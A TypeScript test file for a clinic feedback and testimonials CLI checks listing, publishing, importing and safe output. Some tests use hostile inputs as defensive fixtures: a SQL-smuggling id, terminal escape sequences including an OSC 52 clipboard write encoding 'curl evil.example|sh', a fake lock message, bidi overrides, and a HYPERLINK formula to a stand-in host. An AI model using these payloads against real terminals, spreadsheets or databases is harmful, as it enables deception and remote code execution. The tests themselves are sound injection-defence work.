import { openDatabase, PostgresFeedback, type OpenDatabase } from '@clinic/database';
import { freshEmbeddedDataDir } from '@clinic/database/test-support';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CliIo } from '../io';
import { runCli } from '../run-cli';

// The embedded database held open here, as the running server would hold it; each CLI run joins it.
let dataDir: string;
let server: OpenDatabase;
beforeAll(async () => {
  dataDir = await freshEmbeddedDataDir('clinic-cli-');
  server = await openDatabase({ dataDir });
}, 120_000);
afterAll(async () => {
  await server?.close();
  rmSync(dataDir, { recursive: true, force: true });
});
beforeEach(async () => {
  await sql`truncate testimonials restart identity`.execute(server.db);
});

async function clinic(...args: string[]) {
  let stdout = '';
  let stderr = '';
  const io: CliIo = {
    stdout: { write: (t: string) => (stdout += t) },
    stderr: { write: (t: string) => (stderr += t) },
    env: { DATA_DIR: dataDir },
  };
  const code = await runCli(args, io, () => Promise.reject(new Error('no scheduler in these tests')));
  return { code, stdout, stderr };
}

function file(name: string, text: string): string {
  const path = join(dataDir, name);
  writeFileSync(path, text);
  return path;
}

describe('clinic feedback and testimonials import, on the database the server holds', () => {
  it('lists pending feedback as JSON, publishes it with a name and outcome, then lists nothing pending', async () => {
    const id = await new PostgresFeedback(server.db).insert({ rating: 5, clinic: 'Glendale', comments: 'Seen on time.' });
    const listed = await clinic('feedback', 'list', '--pending', '--json');
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.stdout).feedback).toEqual([
      expect.objectContaining({
        id,
        status: 'pending',
        origin: 'feedback',
        platform: 'hospital',
        rating: 5,
        clinic: 'Glendale',
        comment: 'Seen on time.',
        name: '',
      }),
    ]);
    expect(await clinic('feedback', 'publish', id, '--name', 'Maria G.', '--outcome', 'Back to work in a week')).toEqual({
      code: 0,
      stdout: `Published ${id}: it is now public.\n`,
      stderr: '',
    });
    const all = JSON.parse((await clinic('feedback', 'list', '--json')).stdout).feedback;
    expect(all).toEqual([expect.objectContaining({ id, status: 'published', name: 'Maria G.', outcome: 'Back to work in a week' })]);
    expect(JSON.parse((await clinic('feedback', 'list', '--pending', '--json')).stdout).feedback).toEqual([]);
  });

  // Issue 34 item 10: a card with no clinic shows the site's default, which staff were never told.
  it('publishes feedback that names no clinic with a note on stderr of the clinic the site shows it under', async () => {
    const id = await new PostgresFeedback(server.db).insert({ rating: 5, comments: 'Seen on time.' });
    expect(await clinic('feedback', 'publish', id)).toEqual({
      code: 0,
      stdout: `Published ${id}: it is now public.\n`,
      stderr: `Note: ${id} names no clinic, so the site shows it under Glendale.\n`,
    });
  });

  it('hides feedback, and refuses unknown or non-numeric ids with exit 2', async () => {
    const id = await new PostgresFeedback(server.db).insert({ rating: 3, comments: 'OK.' });
    expect((await clinic('feedback', 'hide', id)).code).toBe(0);
    expect((await clinic('feedback', 'list', '--csv')).stdout.split('\r\n')[1]).toMatch(new RegExp(`^${id},hidden,feedback,hospital,3,`));
    expect(await clinic('feedback', 'publish', '4242')).toEqual({ code: 2, stdout: '', stderr: 'No feedback with id 4242.\n' });
    expect(await clinic('feedback', 'hide', '12; drop table testimonials')).toMatchObject({
      code: 2,
      stderr: 'id must be a number, got "12; drop table testimonials"\n',
    });
  });

  it('imports a Yelp CSV and a Google JSON export as pending, skipping reviews already imported', async () => {
    const csv = file(
      'yelp.csv',
      'review_id,user_name,rating,text,date\r\ny1,Ana P.,5,"Great, quick ""care""\nand kind",2025-10-02\r\ny2,,4,Fine,2025-10-03\r\n',
    );
    expect(await clinic('testimonials', 'import', csv, '--platform', 'yelp')).toEqual({
      code: 0,
      stdout: 'Imported 2 reviews as pending.\n',
      stderr: '',
    });
    const json = file(
      'google.json',
      JSON.stringify({
        reviews: [
          {
            reviewId: 'g1',
            reviewer: { displayName: 'Lee W.' },
            starRating: 'FOUR',
            comment: 'Nice clinic',
            createTime: '2025-09-01T17:00:00Z',
          },
        ],
      }),
    );
    expect((await clinic('testimonials', 'import', json, '--platform', 'google')).stdout).toBe('Imported 1 review as pending.\n');
    expect((await clinic('testimonials', 'import', csv, '--platform', 'yelp')).stdout).toBe(
      'Imported 0 reviews as pending (2 already imported, skipped).\n',
    );
    const items = JSON.parse((await clinic('feedback', 'list', '--pending', '--json')).stdout).feedback;
    expect(items.map((i: Record<string, unknown>) => [i.platform, i.name, i.rating, i.date, i.comment])).toEqual([
      ['yelp', '', 4, '10/03/2025', 'Fine'],
      ['yelp', 'Ana P.', 5, '10/02/2025', 'Great, quick "care"\nand kind'],
      ['google', 'Lee W.', 4, '09/01/2025', 'Nice clinic'],
    ]);
  });

  it('refuses a bad import file naming the record, and writes nothing', async () => {
    const bad = file('bad.csv', 'id,rating,comment\r\na,5,Good\r\nb,7,Too many stars\r\n');
    expect(await clinic('testimonials', 'import', bad, '--platform', 'vitals')).toEqual({
      code: 2,
      stdout: '',
      stderr: `${bad}: record 2: rating must be 1 to 5 (or ONE to FIVE); nothing was imported\n`,
    });
    expect((await clinic('testimonials', 'import', file('x.txt', ''), '--platform', 'vitals')).code).toBe(2);
    expect((await clinic('testimonials', 'import', join(dataDir, 'missing.csv'), '--platform', 'vitals')).stderr).toContain(
      'cannot read it (ENOENT)',
    );
    expect(JSON.parse((await clinic('feedback', 'list', '--json')).stdout).feedback).toEqual([]);
  });

  it('prints stored escape sequences, C1 controls and bidi overrides as visible text in every format, never raw', async () => {
    // Stored before the form refused control characters, or imported: the database may hold any of these.
    const hostile = [
      'Great!\u001b[2J\u001b[H', // clear the screen
      '\u001b[31mYour account is locked\u001b[0m', // fake red text
      '\u001b]0;clinic\u0007', // window title
      '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007', // OSC 52 clipboard write
      '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\', // OSC 8 link
      'Terrible\rWonderful', // CR overwriting the row
      '\u009b2J', // C1 CSI
      '\u202egnp.exe', // right-to-left override
      '\u2066isolated\u2069',
    ].join(' ');
    const stored = new PostgresFeedback(server.db);
    await stored.insert({ rating: 1, comments: hostile });
    await sql`update testimonials set name = ${'Ana\u009b31m \u202eLopez'}`.execute(server.db);
    // eslint-disable-next-line no-control-regex -- the raw control characters are what must not appear
    const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    for (const format of [[], ['--csv'], ['--json']]) {
      const run = await clinic('feedback', 'list', ...format);
      expect(run.code).toBe(0);
      expect(run.stdout.replaceAll('\r\n', '\n')).not.toMatch(raw);
    }
    const table = (await clinic('feedback', 'list')).stdout;
    expect(table).toContain('Great!\\u001b[2J\\u001b[H \\u001b[31mYour account is locked');
    expect(table).toContain('Terrible\\u000dWonderful \\u009b2J \\u202egnp.exe');
    expect(table).toContain('Ana\\u009b31m \\u202eLopez');
    // --json still gives back exactly what was stored.
    expect(JSON.parse((await clinic('feedback', 'list', '--json')).stdout).feedback[0]).toMatchObject({ comment: hostile });
  });

  it('shows a multi-line comment on one table row, and keeps its line breaks in --csv', async () => {
    await new PostgresFeedback(server.db).insert({ rating: 5, comments: 'Quick visit.\r\n\tKind staff.' });
    expect((await clinic('feedback', 'list')).stdout).toContain('Quick visit.  Kind staff.\n');
    expect((await clinic('feedback', 'list', '--csv')).stdout).toContain('"Quick visit.\n\tKind staff."\r\n');
  });

  it('keeps a spreadsheet formula in a comment inert in --csv', async () => {
    await new PostgresFeedback(server.db).insert({ rating: 1, comments: '=HYPERLINK("http://evil.example","click")' });
    expect((await clinic('feedback', 'list', '--csv')).stdout).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
  });
});
